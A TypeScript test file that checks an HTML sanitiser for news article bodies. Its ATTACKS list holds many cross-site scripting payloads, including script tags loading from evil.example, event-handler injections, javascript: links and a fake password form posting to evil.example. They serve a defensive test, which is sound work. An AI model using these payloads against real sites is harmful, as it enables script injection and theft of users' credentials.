import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { sanitiseBody } from './newsBody';

const ATTACKS = [
  '<script>alert(1)</script>',
  '<ScRiPt src=//evil.example/x.js></ScRiPt>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<img src="javascript:alert(1)">',
  '<svg onload=alert(1)><circle/></svg>',
  '<svg><script>alert(1)</script></svg>',
  '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
  '<a href="javascript:alert(1)">text</a>',
  '<a href="java&#x09;script:alert(1)">text</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD4=">text</a>',
  '<iframe src="https://evil.example"></iframe>',
  '<object data="x.swf"></object><embed src="x.swf">',
  '<form action="https://evil.example"><input name="password"><button>ok</button></form>',
  '<style>body{background:url(javascript:alert(1))}</style>',
  '<p style="position:fixed;inset:0;background:url(//evil.example)">text</p>',
  '<p onclick="alert(1)" onmouseover=alert(1)>text</p>',
  '<link rel=stylesheet href=//evil.example><meta http-equiv=refresh content="0;url=//evil.example">',
  '<base href="https://evil.example/">',
  '<figure data-variety="x&quot; onload=&quot;alert(1)" onclick=alert(1)></figure>',
  '<figure data-variety="../../secret"></figure>',
  '<td colspan="999999999" onclick=alert(1)>text</td>',
  '<!--[if IE]><script>alert(1)</script><![endif]-->',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<textarea><img src=x onerror=alert(1)></textarea>',
  '<template><script>alert(1)</script></template>',
  '<video><source onerror=alert(1)></video>',
  '<p>text<',
  '"><script>alert(1)</script>'
];

/** The only shapes that a tag may have. */
const SAFE_TAG =
  /^<(\/?(h2|h3|p|strong|em|blockquote|ul|ol|li|table|thead|tbody|tr|th|td|figure|figcaption)|br \/|figure data-variety="[a-z-]+"|t[hd]( (col|row)span="\d{1,2}")+)>$/;

describe('the text of an article', () => {
  for (const attack of ATTACKS) {
    it(`is harmless after ${attack}`, () => {
      const clean = sanitiseBody(`<p>before</p>${attack}<p>after</p>`);
      for (const tag of clean.match(/<[^>]*>/g) ?? []) assert.match(tag, SAFE_TAG);
      assert.doesNotMatch(clean.replace(/<[^>]*>/g, ''), /</);
    });
  }

  it('keeps headings, lists, tables and figures as they were written', () => {
    const body =
      '<h2>价差</h2><p>大红 <strong>34.50</strong> 元<br />一公斤</p><ul><li>干度</li></ul>' +
      '<figure data-variety="star-anise"><figcaption>示意图</figcaption></figure>' +
      '<table><thead><tr><th colspan="2">规格</th></tr></thead><tbody><tr><td>大红</td><td>玉林</td></tr></tbody></table>';
    assert.equal(sanitiseBody(body), body);
  });

  it('keeps the words of what it takes away, but not the code', () => {
    assert.equal(sanitiseBody('<a href="https://evil.example">词</a><script>code()</script>'), '词');
  });
});
